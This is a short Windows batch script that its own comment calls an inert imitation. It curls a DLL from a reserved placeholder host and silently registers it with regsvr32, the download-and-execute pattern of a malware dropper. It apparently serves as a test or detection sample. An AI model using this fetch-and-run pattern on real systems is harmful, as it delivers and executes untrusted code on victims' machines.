@echo off
rem Inert imitation: reserved host, placeholder DLL name.
curl https://stage.example.invalid/3/placeholder.dll -o compile.dll
regsvr32.exe -s compile.dll
